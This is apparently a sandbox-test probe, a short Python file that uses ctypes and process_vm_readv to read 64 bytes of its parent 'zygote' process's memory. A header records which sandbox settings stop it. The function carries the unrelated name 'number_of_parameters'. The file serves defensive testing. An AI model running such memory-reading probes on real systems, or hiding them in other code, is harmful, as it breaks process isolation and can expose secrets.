"""Read the zygote's memory with process_vm_readv.

Seen: catalogue 6.
"""

# /// attack
# exercise = "02_cell/quiz"
# stopped_by = { full = "seccomp", landlock = "seccomp", none = "judging" }
# not_run = "it depends on the machine's rules for tracing whether root's memory can be read"
# ///

import ctypes
import os


def number_of_parameters() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    taken = ctypes.create_string_buffer(64)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(taken), 64)
    remote = (ctypes.c_size_t * 2)(id(None), 64)  # a fork has the same addresses
    if libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    print("got:", taken.raw)
